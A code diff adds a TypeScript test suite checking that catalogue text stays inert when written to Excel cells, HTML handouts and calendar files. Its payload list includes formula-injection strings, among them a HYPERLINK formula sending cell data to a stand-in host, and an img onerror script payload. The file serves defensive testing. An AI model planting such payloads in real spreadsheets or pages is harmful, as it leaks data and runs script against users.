@@ -1,0 +1,107 @@
+import { asCellText, asInertLine, onOneLine, withoutMark } from "../../src/base/inert";
+import { languageKeys } from "../../src/base/languages";
+import { CatalogueError, parseCatalogue, readCatalogue, type Catalogue } from "../../src/catalogue/catalogue";
+import { task23 } from "../../src/catalogue/task23";
+import { assess } from "../../src/coverage/assess";
+import { briefsOf } from "../../src/coverage/brief";
+import { createWorkbook } from "../../src/excel/create";
+import { calendarOf } from "../../src/handout/calendar";
+import { documentAsHtml, documentAsText } from "../../src/handout/document";
+import { raciDocument } from "../../src/handout/raci";
+import "../../src/text/allLanguages";
+import { openExcel, TODAY } from "../support/excel";
+import { area, organisation, person, row } from "../support/organisation";
+
+/** Texts that a cell, a page or a calendar would take for something else. */
+const payloads = [
+  "=1+1",
+  '=HYPERLINK("http://x.example/"&Deltagere!A8,"Klik")',
+  "+1",
+  "-2-3",
+  "@SUM(A1)",
+  "＝1+1",
+  "＋1",
+  "\n=2+3",
+  "\t=2+3",
+  " =2+3",
+  "'=1+1",
+  "SAND",
+  "true",
+  "7.2",
+  "1-2",
+  "marts 2027",
+  "1. maj",
+  '<img src=x onerror="alert(1)">',
+];
+
+/** The task's catalogue with every text another payload. */
+function poisoned(): Catalogue {
+  let next = 0;
+  const poison = (value: unknown): unknown => {
+    if (Array.isArray(value)) return value.map(poison);
+    if (typeof value !== "object" || value === null) return value;
+    const entries = Object.entries(value);
+    const isText = languageKeys.every((language) => typeof (value as Record<string, unknown>)[language] === "string");
+    const payload = payloads[next % payloads.length] ?? "";
+    if (isText) next += 1;
+    return Object.fromEntries(entries.map(([key, inner]) => [key, isText ? payload : poison(inner)]));
+  };
+  return parseCatalogue(poison(task23));
+}
+
+test("no text of a catalogue becomes a formula, a number or a truth in any cell of the workbook", async () => {
+  const excel = await openExcel();
+  await createWorkbook(task23, "da", { municipality: "x", projectStart: TODAY, goLive: null });
+  const ours = new Set(excel.book.sheets.flatMap(({ cells }) => [...cells.values()].map(({ formula }) => formula)));
+  const poison = await openExcel();
+  await createWorkbook(poisoned(), "da", { municipality: "=1+1", projectStart: TODAY, goLive: null });
+  const cells = poison.book.sheets.flatMap(({ name, cells: own }) => [...own.values()].map((content) => ({ name, ...content })));
+  const foreign = cells.filter(
+    ({ formula }) => formula !== null && !ours.has(formula) && payloads.some((text) => formula.includes(text.trim())),
+  );
+  expect(foreign).toEqual([]);
+  const texts = new Set(cells.flatMap(({ formula, value }) => (formula === null ? [value] : [])));
+  for (const payload of ["=1+1", "SAND", "7.2", "1-2", "marts 2027", "＝1+1"])
+    expect([payload, texts.has(payload)]).toEqual([payload, true]);
+  excel.close();
+  poison.close();
+});
+
+test.each(payloads)("%j stays text in a cell, a copied table, a page and a calendar", (payload) => {
+  expect(withoutMark(asCellText(payload))).toBe(payload.startsWith("'") ? payload : withoutMark(asCellText(payload)));
+  expect(/^\s*[=+\-@＝＋－＠]/u.test(asInertLine(payload))).toBe(false);
+  const filled = organisation([row({ participant: payload, about: payload })], {
+    areas: [area({ id: "", name: payload }), area({ name: payload })],
+    participants: [person({ name: payload })],
+  });
+  const assessment = assess(filled);
+  const document = raciDocument(assessment, "da");
+  const startsFormula = (text: string): boolean => /^\s*[=+\-@＝＋－＠]/u.test(text);
+  expect(
+    documentAsText(document)
+      .split(/[\n\t]/)
+      .filter(startsFormula),
+  ).toEqual([]);
+  const html = documentAsHtml(document);
+  expect([...html.matchAll(/<(?:td|th|p|li|h\d)>([^<]*)/g)].map(([, text = ""]) => text).filter(startsFormula)).toEqual([]);
+  expect(html).not.toContain("<img");
+  const [brief] = briefsOf(assessment);
+  if (!brief) throw new Error("There is no brief.");
+  const lines = calendarOf(brief, "da", new Date(0)).text.split("\r\n");
+  expect(lines.filter((line) => line !== "" && !/^[A-Z-]+[:;]|^ /.test(line))).toEqual([]);
+});
+
+test("a half of a character is told as such, and control characters are spaces", () => {
+  expect(onOneLine("a\ud800b\u0000c\r\nd 😀")).toBe("a\ufffdb c d 😀");
+});
+
+test("catalogues have limits, answer at once, and take a byte-order mark", () => {
+  const text = JSON.stringify(task23);
+  expect(readCatalogue(`\ufeff${text}`).id).toBe(task23.id);
+  const many = { ...task23, processes: Array.from({ length: 100_000 }, (_, index) => ({ ...task23.processes[0], id: `P${index}` })) };
+  expect(() => parseCatalogue(many)).toThrow(CatalogueError);
+  const late = { ...task23, suggestedWeeksToGoLive: 1e15 };
+  expect(() => parseCatalogue(late)).toThrow(/suggestedWeeksToGoLive/);
+  const long = { ...task23, task: { ...task23.task, title: { da: "x".repeat(40_000), en: "x" } } };
+  expect(() => parseCatalogue(long)).toThrow(/task\.title\.da/);
+});
